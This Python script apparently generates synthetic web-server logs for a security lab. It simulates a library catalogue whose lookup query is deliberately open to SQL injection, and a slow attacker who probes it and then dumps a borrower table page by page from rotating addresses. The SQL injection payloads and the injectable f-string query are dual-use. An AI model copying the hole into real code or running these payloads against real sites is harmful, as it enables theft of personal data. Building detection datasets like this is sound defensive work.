"""A library's catalogue over three months: one attacker, a few requests a week, each time from another address.

The days pass because the lab says so: each line's time is set to the incident's after it was written.
"""

import sqlite3
import threading

import crowd
import lab
import servers

DAYS = 91


def play(made, folder):
    """All that happens."""
    draw = made.draw
    path, key = draw.choice((("/record", "rid"), ("/title", "t"), ("/holding", "item")))
    table, page_size = draw.choice(("borrowers", "cardholders", "members")), draw.choice((5, 8, 10))
    rows = draw.randint(60, 110)
    base, guard = sqlite3.connect(":memory:", check_same_thread=False), threading.Lock()
    base.execute("CREATE TABLE books (id INTEGER, title TEXT, year INTEGER)")
    base.execute(f"CREATE TABLE {table} (id INTEGER, name TEXT, mail TEXT)")
    base.executemany("INSERT INTO books VALUES (?,?,?)", [(n, "b" * (n % 17 + 5), 1900 + n) for n in range(1, 91)])
    base.executemany(
        f"INSERT INTO {table} VALUES (?,?,?)", [(n, f"Person {n}", f"p{n}@mail.example") for n in range(1, rows + 1)]
    )

    def answer(asked):
        if asked.path == path:
            try:
                with guard:
                    found = base.execute(
                        f"SELECT id, title, year FROM books WHERE id = {asked.query.get(key, '1')}"
                    ).fetchall()
            except (sqlite3.Error, sqlite3.Warning):
                return 500, "<h1>Something went wrong</h1>", {}
            return (
                (200, "<h1>Record</h1>" + "r" * 1700 + "".join(f"<li>{row}</li>" for row in found), {})
                if found
                else (404, "no record", {})
            )
        if asked.path in ("/", "/hours", "/robots.txt", "/new.xml", "/search"):
            return 200, "l" * (1900 + 100 * len(asked.path)), {}
        return 404, "<h1>Not in the catalogue</h1>" + "n" * 240, {}

    def page(draw):
        return draw.choice(
            (
                "/",
                "/hours",
                f"{path}?{key}={draw.randint(1, 95)}",
                f"{path}?{key}={draw.randint(1, 95)}",
                f"/search?q={draw.choice(('novel', 'union+of+poets', 'o%27casey'))}",
            )
        )

    with servers.nginx(made, answer, files={"st/l.css": b"x" * 3500}) as (access, error):
        crowd.visitors(made, 900, DAYS, page, ["/st/l.css"])
        crowd.machines(made, DAYS, page, feed="/new.xml")
        crowd.bots(made, DAYS, 14)
        made.actor("patient", "attacker")
        agent = draw.choice(
            (
                "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:52.0) Gecko/20100101 Firefox/52.9",
                "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0",
            )
        )
        at, address = 3 * crowd.DAY, made.address()
        with made.phase("patient", "probe", "exploitation", "succeeded"):
            for value in (
                "7",
                "7'",
                "7%20AND%203=3",
                "7%20AND%203=4",
                "7%20ORDER%20BY%203",
                "7%20ORDER%20BY%204",
                "-7%20UNION%20SELECT%201,2,3",
            ):
                made.ask(at, address, f"{path}?{key}={value}", agent=agent)
                at += draw.uniform(2000, 30_000)
        with made.phase("patient", "dump", "exfiltration", "succeeded", rows_taken={table: rows}):
            for start in range(0, rows, page_size):
                if start % (3 * page_size) == 0:
                    address, at = made.address(), at + draw.uniform(5, 9) * crowd.DAY
                value = f"-7%20UNION%20SELECT%20id,name,mail%20FROM%20{table}%20LIMIT%20{page_size}%20OFFSET%20{start}"
                made.ask(at, address, f"{path}?{key}={value}", agent=agent)
                at += draw.uniform(1500, 9000)
        made.entry("patient", "SQL injection", path, key)
    lab.write(made, folder, [access, error])


if __name__ == "__main__":
    lab.command("library", "2026-01-05", "nginx before an application", "catalogue.library.example", play, __doc__)
